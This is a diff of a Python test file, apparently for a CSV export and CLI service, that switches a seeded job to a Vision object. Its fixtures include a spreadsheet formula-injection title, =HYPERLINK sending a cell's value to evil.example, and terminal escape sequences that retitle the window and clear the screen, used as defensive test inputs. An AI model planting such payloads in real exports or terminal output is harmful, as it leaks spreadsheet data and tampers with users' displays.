@@ -18,6 +18,8 @@ from outbox.records import NewItem
 from outbox.store import Store
 from service.cli import main
 from service.export import to_csv
+from tests.jobrows import OPTIONS
+from vocab.vision import Vision
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -33,7 +35,7 @@ ESCAPES = "Ünïcode — ok 😀 \x1b]0;owned\x07\x1b[2J done"
 async def _seed(db: Path) -> str:
     """A finished job whose generated items carry formulas and terminal escapes in their text."""
     async with Store.open(db) as store:
-        await store.create_job("job-1", {"title": "Bikes \x1b[31mred", "vision": "v"}, {}, {})
+        await store.create_job("job-1", Vision(title="Bikes \x1b[31mred", vision="v"), OPTIONS, {})
         items = [
             NewItem(id=f"e{n}", parent_id=None, kind="epic", level=0, position=n, title=t, body={})
             for n, t in enumerate([*HOSTILE_TITLES, ESCAPES])
